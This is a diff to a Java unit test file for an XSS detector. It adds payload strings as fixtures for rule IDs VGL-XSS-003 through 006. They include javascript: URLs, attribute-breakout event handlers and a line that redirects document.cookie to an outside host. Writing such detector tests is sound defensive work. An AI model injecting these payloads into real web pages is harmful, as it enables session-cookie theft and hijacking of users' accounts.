@@ -59,6 +59,8 @@ class XssDetectorTest {
                 Arguments.of("java\tscript:x", "VGL-XSS-003"),
                 Arguments.of("data:text/html;base64,PGI+aGk8L2I+", "VGL-XSS-003"),
                 Arguments.of("<embed-like src=\"data:application/x-shockwave-flash,x\">", "VGL-XSS-003"),
+                Arguments.of("<div style=\"background-image:url(javascript:go(1))\">", "VGL-XSS-003"),
+                Arguments.of("javascript://%0ago(1)", "VGL-XSS-003"),
                 // VGL-XSS-004 CSS
                 Arguments.of("<p style=\"width:expression(go())\">", "VGL-XSS-004"),
                 Arguments.of("<p style=\"background:url(//example.org/a.png)\">", "VGL-XSS-004"),
@@ -69,7 +71,10 @@ class XssDetectorTest {
                 Arguments.of("' onmouseover='go()", "VGL-XSS-005"),
                 Arguments.of("x\" onwheel=", "VGL-XSS-005"),
                 Arguments.of("'></textarea><b>hi</b>", "VGL-XSS-005"),
+                Arguments.of("' accesskey='x' onclick='go(1)' x='", "VGL-XSS-005"),
                 // VGL-XSS-006 JavaScript context
+                Arguments.of("window.location='//example.org/?'+document.cookie", "VGL-XSS-006"),
+                Arguments.of("scriptdocument.cookie=1;/script", "VGL-XSS-006"),
                 Arguments.of("\";alert(1)//", "VGL-XSS-006"),
                 Arguments.of("'-prompt`x`-'", "VGL-XSS-006"),
                 Arguments.of("x';confirm(document.domain);//", "VGL-XSS-006"),
